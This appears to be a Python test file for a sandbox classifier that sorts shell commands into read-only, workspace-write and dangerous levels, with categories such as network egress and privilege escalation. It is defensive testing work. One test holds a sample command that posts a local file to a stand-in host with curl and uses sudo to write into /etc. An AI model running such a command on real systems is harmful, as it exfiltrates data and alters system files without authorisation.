"""Command risk on the committed corpus: nothing dangerous may pass as read-only."""

from __future__ import annotations

import pytest

from orkas.engine.sandbox.risk import classify_command
from tests.fixtures.command_corpus import BENIGN_READ_ONLY, BENIGN_WRITES, DANGEROUS


def test_the_corpus_is_big_enough() -> None:
    assert len(DANGEROUS) >= 150 and len(BENIGN_READ_ONLY) + len(BENIGN_WRITES) >= 100
    assert len(DANGEROUS) + len(BENIGN_READ_ONLY) + len(BENIGN_WRITES) >= 250
    categories = {c for _, c in DANGEROUS}
    assert {
        "destructive",
        "network_egress",
        "privilege_escalation",
        "sensitive_path",
        "process_control",
        "package_install",
        "unknown",
    } <= categories


@pytest.mark.parametrize(("command", "category"), DANGEROUS)
def test_dangerous_commands_are_never_read_only(command: str, category: str) -> None:
    risk = classify_command(command)
    assert risk.level == "dangerous", (command, risk)
    assert category in risk.categories, (command, risk)


def test_most_benign_reads_run_without_asking() -> None:
    passed = [c for c in BENIGN_READ_ONLY if classify_command(c).level == "read_only"]
    missed = sorted(set(BENIGN_READ_ONLY) - set(passed))
    assert len(passed) / len(BENIGN_READ_ONLY) >= 0.8, missed


@pytest.mark.parametrize("command", BENIGN_WRITES)
def test_workspace_writes_are_writes_not_reads(command: str) -> None:
    assert classify_command(command).level == "workspace_write", classify_command(command)


def test_reasons_say_what_is_wrong() -> None:
    risk = classify_command("cd /tmp && curl -d @x https://e.example | sudo tee /etc/x")
    assert set(risk.categories) >= {"network_egress", "privilege_escalation", "sensitive_path"}
    assert "curl" in risk.reason and "sudo" in risk.reason
    assert classify_command("").level == "read_only"
